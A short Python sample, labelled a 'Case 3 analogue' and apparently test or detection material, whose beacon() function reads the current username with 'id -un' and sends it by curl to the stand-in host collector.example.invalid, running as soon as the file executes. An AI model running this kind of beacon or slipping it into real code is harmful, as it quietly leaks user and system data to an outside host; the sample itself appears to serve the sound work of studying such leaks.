# Case 3 analogue: command output smuggled out through curl.
import os
import subprocess


def beacon():
    who = subprocess.check_output(["id", "-un"]).decode().strip()
    os.system(f"curl -s https://collector.example.invalid/?u={who}")


beacon()
